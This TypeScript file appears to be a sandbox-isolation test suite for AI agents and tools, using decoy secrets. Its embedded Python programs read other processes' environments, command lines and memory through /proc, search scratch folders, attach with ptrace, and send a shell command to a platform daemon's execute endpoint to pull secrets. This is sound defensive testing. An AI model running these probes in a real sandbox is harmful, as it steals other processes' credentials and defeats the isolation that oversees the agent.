import type { Command } from "@ambit/core/plugin";
import { commandOf, runProgram, waitForLine } from "../programs/run-program.js";
import { type Attack, blocked, notRun, reached, type Stage } from "./attack.js";
import { outcomeOf } from "./program-attack.js";

/** The secret is in its environment, its arguments, its memory and its files. */
export function holderCommand(
  { decoys }: Pick<Stage, "decoys">,
  role: NonNullable<Command["role"]> = "tool",
): Command {
  const command = commandOf(hold, { secret: decoys.secret }, { env: { HOLDER_SECRET: decoys.secret }, role });
  return { ...command, argv: [...command.argv, "holder-of-the-secret"] };
}

const hold = `
libc.prctl(0x59616D61, ctypes.c_ulong(-1 & (2**64 - 1)), 0, 0, 0)
remembered = bytearray(P["secret"].encode())
tmp, home = os.environ.get("TMPDIR", "/tmp"), os.environ.get("HOME", "/tmp")
kept = []
for folder in (tmp, home, "/dev/shm", "/tmp"):
    try:
        path = os.path.join(folder, "decoy-%d" % time.monotonic_ns())
        with open(path, "w") as file:
            file.write(P["secret"])
        kept.append(open(path))
    except OSError:
        continue
print(json.dumps({"tmp": tmp, "home": home, "above": os.path.dirname(os.path.dirname(tmp)) or "/tmp"}), flush=True)
sys.stdin.read()
`;

/** Ports on which platforms' own services inside are known to accept requests of every process: Daytona's daemon. */
const known = [2_280, 22_220, 22_222, 33_333];

/**
 * As a tool, and as the agent. Unguarded, a decoy on this host's loopback responds like such a service; guarded, the
 * network is off, so any response comes from the sandbox's own service.
 */
export const supervisor: Attack = {
  id: "environment.per-tool/supervisor",
  stoppedBy: ["network namespace"],
  capability: "environment.per-tool",
  title: "make a service of the platform, as a tool and as the agent, read another tool's environment",
  perform: async (stage) => {
    const { decoys } = stage;
    const sandbox = await stage.openAnother({ network: "off" });
    const holder = await sandbox.spawn(holderCommand(stage));
    try {
      if ((await waitForLine(holder.stdout, "{")) === undefined)
        return notRun("the process that holds the secret ended");
      const parameters = { known, decoy: decoys.onLoopback.port };
      const outcomes = [];
      for (const role of ["tool", "agent"] as const) {
        const outcome = outcomeOf(await runProgram(sandbox, program, parameters, { role }));
        if (outcome.result !== "blocked") return outcome;
        outcomes.push(`as ${role}: ${outcome.detail}`);
      }
      return blocked(outcomes.join("; "));
    } finally {
      await holder.kill();
    }
  },
};

const program = String.raw`
def addresses():
    yield (socket.AF_INET, "127.0.0.1")
    yield (socket.AF_INET6, "::1")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))
            yield (socket.AF_INET, probe.getsockname()[0])
    except OSError:
        pass

def order(family, host, port):
    body = json.dumps({"command": "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | grep HOLDER_SECRET"}).encode()
    with socket.socket(family, socket.SOCK_STREAM) as client:
        client.settimeout(3)
        client.connect((host, port))
        client.sendall(b"POST /process/execute HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
        answer = b""
        while len(answer) < 1 << 16:
            piece = client.recv(4096)
            answer += piece
            if not piece or leaks(answer):
                break
        # A known service that accepts connections also accepts requests, in its own protocol.
        return leaks(answer) or (port in P["known"] and "port %d accepts connections" % port)

for port in [P["decoy"], *P["known"]]:
    for family, host in addresses():
        attempt("%s port %d" % (host, port), lambda: order(family, host, port))
`;

type Role = NonNullable<Command["role"]>;

/** One process of the session holds the secret; another one of the same session searches for it. */
export const environmentPerTool = [
  perTool(
    "environment",
    "read another tool's environment",
    `
attempt("environments", lambda: each(glob.glob("/proc/[0-9]*/environ"), content))`,
  ),
  perTool(
    "arguments",
    "read another tool's arguments",
    `
attempt("command lines", lambda: each(glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/task/*/cmdline"), content))`,
    { stoppedBy: ["pid namespace"] },
  ),
  perTool(
    "memory",
    "read another tool's memory",
    `
def memory():
    found = set()
    for folder in glob.glob("/proc/[0-9]*"):
        try:
            if HOLDER not in content(folder + "/cmdline"):
                continue
            found.update(memory_leaks(folder, 8 << 20).split())
        except OSError:
            continue
    return " ".join(found)
attempt("memory", memory)`,
  ),
  perTool(
    "scratch",
    "read another tool's scratch and home",
    `
def walk():
    found = set()
    for top in {"/tmp", "/var/tmp", "/dev/shm", "/run", "/home", P["tmp"], P["home"], P["above"]}:
        for folder, _, files in os.walk(top):
            found.update(each([os.path.join(folder, name) for name in files if "decoy" in name], content).split())
    return " ".join(found)
attempt("walk", walk)
attempt("its files", lambda: each(glob.glob("/proc/[0-9]*/fd/*"), lambda path: content(path) if os.path.isfile(path) else b""))
attempt("its folders", lambda: each(glob.glob("/proc/[0-9]*/root" + P["tmp"] + "/decoy*"), content))`,
    { stoppedBy: ["private scratch"] },
  ),
  perTool(
    "trace",
    "attach to another tool as a debugger",
    `
def attach():
    failure = OSError(errno.ESRCH, "not in sight")
    for folder in glob.glob("/proc/[0-9]*"):
        try:
            if HOLDER not in content(folder + "/cmdline") or folder == "/proc/%d" % os.getpid():
                continue
            number = {"x86_64": 101, "aarch64": 117}[os.uname().machine]
            pid = int(folder.split("/")[-1])
            syscall(number, 16, pid, 0, 0)
            os.waitpid(pid, 0x40000000)
            syscall(number, 17, pid, 0, 0)
            return "attached and let go"
        except OSError as error:
            failure = error
    raise failure
attempt("ptrace", attach)`,
    { stoppedBy: ["pid namespace", "user namespace", "system call filter"] },
  ),
  perTool(
    "agent-reads-tool",
    "read a tool's environment and arguments as the agent",
    `
attempt("environments", lambda: each(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"), content))`,
    { attacker: "agent", stoppedBy: ["pid namespace"] },
  ),
  perTool(
    "tool-reads-agent",
    "read the agent's environment, arguments and scratch as a tool",
    `
attempt("environments", lambda: each(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"), content))
attempt("scratch", lambda: each(glob.glob(P["tmp"] + "/decoy*"), content))`,
    { holder: "agent", stoppedBy: ["pid namespace"] },
  ),
  leftovers(),
  supervisor,
] as const;

/** In two halves: the attacker's own command line, which its jail's first process also has, must not contain it. */
const holderMark = `
HOLDER = b"holder-of-" + b"the-secret"`;

function perTool(
  slug: string,
  title: string,
  program: string,
  {
    holder: held,
    attacker,
    stoppedBy,
  }: Pick<Attack, "stoppedBy"> & {
    readonly holder?: Role;
    readonly attacker?: Role;
  } = {},
): Attack {
  return {
    id: `environment.per-tool/${slug}`,
    stoppedBy,
    capability: "environment.per-tool",
    title,
    perform: async (stage) => {
      const holder = await stage.sandbox.spawn(holderCommand(stage, held));
      try {
        const line = await waitForLine(holder.stdout, "{");
        if (line === undefined) return notRun("the process that holds the secret ended");
        const options = { role: attacker ?? "tool" } as const;
        return outcomeOf(
          await runProgram(stage.sandbox, `${holderMark}${program}`, JSON.parse(line), options),
        );
      } finally {
        await holder.kill();
      }
    },
  };
}

/** A tool's scratch is removed with it: the next tool, started the same way, doesn't find its files. */
function leftovers(): Attack {
  return {
    id: "environment.per-tool/leftovers",
    stoppedBy: ["private scratch"],
    capability: "environment.per-tool",
    title: "find what an earlier tool left in its scratch and home",
    perform: async (stage) => {
      const holder = await stage.sandbox.spawn(holderCommand(stage));
      const line = await waitForLine(holder.stdout, "{");
      await holder.stdin.close().catch(() => undefined); // Ended already: its first line reports that.
      await holder.exit;
      if (line === undefined) return notRun("the process that holds the secret ended");
      const found = outcomeOf(await runProgram(stage.sandbox, searchLeftovers, JSON.parse(line)));
      return found.result === "reached" ? reached(`still there: ${found.detail}`) : found;
    },
  };
}

const searchLeftovers = `
def walk():
    found = set()
    for top in {"/tmp", "/dev/shm", P["tmp"], P["home"]}:
        for folder, _, files in os.walk(top):
            found.update(each([os.path.join(folder, name) for name in files if "decoy" in name], content).split())
    return " ".join(found)
attempt("walk", walk)
`;
